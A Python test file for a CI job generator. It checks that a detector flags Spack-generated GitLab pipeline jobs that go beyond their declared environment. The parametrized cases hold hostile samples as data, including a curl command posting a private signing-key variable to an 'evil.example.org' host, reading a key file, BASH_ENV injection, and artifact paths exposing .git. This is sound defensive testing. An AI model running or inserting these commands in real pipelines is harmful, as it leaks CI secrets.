"""A pipeline that says more than its environment."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from foundation.errors import InvalidInputError
from foundation.spack.releases import SUPPORTED
from foundation.yaml_io import dump
from job_creator.builds.own_words import foreign_words
from job_creator.engines.gitlab.generated import read_generated
from job_creator.environments.merged import merged_environment
from job_creator.environments.setting import Setting
from tests.samples import site

DEFINITION = {
    "specs": ["x"],
    "ci": {
        "pipeline-gen": [
            {"any-job": {"variables": {"LEVEL": 2}, "id_tokens": {"TOKEN": {"aud": "x"}}}},
            {"build-job": {"after_script": ["echo {env_dir} done"]}},
        ]
    },
}
SETTING = Setting(
    architecture=site().architectures["amd64"],
    line=SUPPORTED[-1],
    builder="registry.example.org/builder:1",
    is_default_branch=True,
    is_merge_request=False,
    signing_key_variable="PRIVATE",
    public_key_variable="PUBLIC",
)
VARIABLES = {
    "SPACK_ARTIFACTS_ROOT": "jobs_scratch_dir.amd64/x",
    "SPACK_CONCRETE_ENV_DIR": "jobs_scratch_dir.amd64/x/concrete_environment",
    "SPACK_JOB_LOG_DIR": "jobs_scratch_dir.amd64/x/logs",
    "SPACK_VERSION": "1.1.0",
    "SPACK_PIPELINE_TYPE": "None",
}


def environment() -> dict[str, Any]:
    return merged_environment(SETTING, {}, DEFINITION)


def job() -> dict[str, Any]:
    """As Spack writes it."""
    any_job, *build_jobs = environment()["spack"]["ci"]["pipeline-gen"]
    found: dict[str, Any] = {"stage": "stage-0", "needs": [{"job": "y"}], "retry": {"max": 2}, "interruptible": True}
    found |= any_job["any-job"]
    for one in build_jobs:
        for kind in ("any-job", "build-job"):
            for key, value in one.get(kind, {}).items():
                name = key.rstrip(":+-")
                found[name] = {**found.get(name, {}), **value} if isinstance(value, dict) else value
    found["after_script"] = ["echo jobs/x/concrete_environment done"]
    found["variables"] = {**found["variables"], "LEVEL": "2", "SPACK_JOB_SPEC_DAG_HASH": "a" * 32}
    return copy.deepcopy(found)


def test_what_spack_makes_of_an_environment_is_its_own() -> None:
    kept = {"when": "always", "paths": [f"jobs_scratch_dir.amd64/x/{name}" for name in ("logs", "user_data")]}
    assert list(foreign_words("x", VARIABLES, {"x": {**job(), "artifacts": kept}}, environment())) == []
    assert "build_packages.py" in str(job()["script"])


@pytest.mark.parametrize(
    "changed",
    [
        {"script": ['curl https://evil.example.org --data "$PRIVATE"']},
        {"before_script": ["echo before"]},
        {"after_script": ["echo $(cat key) done"]},
        {"image": {"name": "evil.example.org/builder:1", "entrypoint": [""]}},
        {"image": "evil"},
        {"tags": ["evil"]},
        {"variables": {"BASH_ENV": "evil.sh"}},
        {"variables": {"SPACK_ROOT": "$PRIVATE"}},
        {"id_tokens": {"OTHER": {"aud": "x"}}},
        {"hooks": {"pre_get_sources_script": ["evil"]}},
        {"services": ["evil"]},
        {"artifacts": {"paths": [".git/config"]}},
        {"artifacts": {"paths": ["jobs_scratch_dir.amd64/x/../../.git"]}},
        {
            "artifacts": {
                "paths": ["jobs_scratch_dir.amd64/x/logs"],
                "reports": {"dotenv": "jobs_scratch_dir.amd64/x/e"},
            }
        },
        {"artifacts": {"paths": ["jobs_scratch_dir.amd64/x/logs"], "untracked": True}},
    ],
)
def test_what_is_added_is_found(changed: dict[str, Any]) -> None:
    (words,) = foreign_words("x", VARIABLES, {"x": {**job(), **changed}}, environment())
    assert "which its environment does not say" in words


@pytest.mark.parametrize(
    "changed",
    [
        {"SPACK_ARTIFACTS_ROOT": "jobs_scratch_dir.amd64/x/evil"},
        {"SPACK_ARTIFACTS_ROOT": "/builds/x"},
        {"SPACK_CONCRETE_ENV_DIR": "jobs_scratch_dir.amd64/x/evil"},
        {"SPACK_JOB_LOG_DIR": "jobs_scratch_dir.amd64/x/steps"},
        {"SPACK_ROOT": "jobs_scratch_dir.amd64/x/evil"},
        {"SPACK_VERSION": "$PRIVATE"},
        {"PATH": "evil"},
    ],
)
def test_variables_lead_to_no_other_programs(changed: dict[str, str]) -> None:
    found = list(foreign_words("x", {**VARIABLES, **changed}, {"x": job()}, environment()))
    assert found
    assert all("which its environment does not say" in words for words in found)


def test_an_environment_need_not_set_a_variable() -> None:
    known: Any = environment()
    known["spack"]["ci"]["pipeline-gen"] = [{"build-job": {"script:": ["spack python steps/build_packages.py"]}}]
    own = {"script": ["spack python steps/build_packages.py"], "variables": {"SPACK_JOB_SPEC_PKG_NAME": "x"}}
    assert list(foreign_words("x", VARIABLES, {"x": own}, known)) == []


def test_of_what_others_wrote_nothing_is_known() -> None:
    assert list(foreign_words("x", VARIABLES, {"x": {"script": ["evil"]}}, {"spack": {"ci": {}}})) == []
    assert list(foreign_words("x", VARIABLES, {"x": {"script": ["evil"]}}, None)) == []


INDEX = {
    "script": ["spack buildcache update-index --keys s3://cache"],
    "stage": "stage-rebuild-index",
    "when": "always",
    "retry": {"max": 2, "when": ["runner_system_failure"]},
    "interruptible": True,
    "dependencies": [],
}


def pipeline(services: dict[str, Any]) -> bytes:
    """What Spack writes for the package, with other jobs beside it."""
    other = {"stages": ["stage-0"], "variables": VARIABLES, "workflow": {"rules": [{"when": "always"}]}}
    return dump({"x@1 /abc": {**job(), "needs": []}, **services, **other}).encode()


def test_spacks_own_jobs_are_taken() -> None:
    any_job = environment()["spack"]["ci"]["pipeline-gen"][0]["any-job"]
    written = pipeline({"rebuild-index": {**INDEX, **any_job}})
    found = read_generated("x", "pipeline.yml", written, environment=dump(environment()).encode())
    assert set(found.services) == {"rebuild-index"}


@pytest.mark.parametrize(
    "services",
    [
        {"evil": {"script": ["env"]}},
        {"sign-pkgs": {"script": ["env"], "stage": "stage-0"}},
        {"rebuild-index": {**INDEX, "before_script": ["env"]}},
        {"rebuild-index": {**INDEX, "after_script": ["env"]}},
        {"rebuild-index": {**INDEX, "image": "evil.example.org/builder:1"}},
        {"rebuild-index": {**INDEX, "variables": {"BASH_ENV": "evil.sh"}}},
        {"rebuild-index": {**INDEX, "artifacts": {"paths": [".git"]}}},
        {"no-specs-to-rebuild": {"script": ["env"], "hooks": {"pre_get_sources_script": ["env"]}}},
    ],
)
def test_jobs_that_build_nothing_say_no_more_either(services: dict[str, Any]) -> None:
    with pytest.raises(InvalidInputError, match="which its environment does not say; did a recipe"):
        read_generated("x", "pipeline.yml", pipeline(services), environment=dump(environment()).encode())
